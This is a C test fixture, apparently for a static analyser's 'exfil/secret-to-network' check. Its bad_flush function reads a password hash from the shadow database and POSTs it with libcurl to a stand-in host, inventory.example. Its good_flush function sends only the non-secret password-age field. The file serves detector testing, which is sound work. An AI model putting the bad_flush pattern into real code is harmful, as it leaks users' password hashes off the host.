/* A password hash waits in a list on the heap until a flush posts it. */
#include <curl/curl.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct record {
    struct record *next;
    char *hash;
    long max_days;
};

static struct record *read_record(const char *name) {
    struct spwd *entry = getspnam(name);
    struct record *record = calloc(1, sizeof *record);
    if (!entry || !record) {
        free(record);
        return NULL;
    }
    record->hash = strdup(entry->sp_pwdp);
    record->max_days = entry->sp_max;
    return record;
}

int bad_flush(const char *name) {
    CURL *curl = curl_easy_init();
    struct record *list = read_record(name);
    for (struct record *at = list; at && curl; at = at->next) {
        curl_easy_setopt(curl, CURLOPT_URL, "https://inventory.example/v1/hosts");
        curl_easy_setopt(curl, CURLOPT_POSTFIELDS, at->hash);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        curl_easy_perform(curl);
    }
    curl_easy_cleanup(curl);
    return list != NULL;
}

/* The neighbouring field says how old a password may get; it is no secret. */
int good_flush(const char *name) {
    char line[64];
    CURL *curl = curl_easy_init();
    struct record *list = read_record(name);
    for (struct record *at = list; at && curl; at = at->next) {
        snprintf(line, sizeof line, "max_days=%ld", at->max_days);
        curl_easy_setopt(curl, CURLOPT_URL, "https://inventory.example/v1/ages");
        curl_easy_setopt(curl, CURLOPT_POSTFIELDS, line);
        curl_easy_perform(curl);
    }
    curl_easy_cleanup(curl);
    return list != NULL;
}
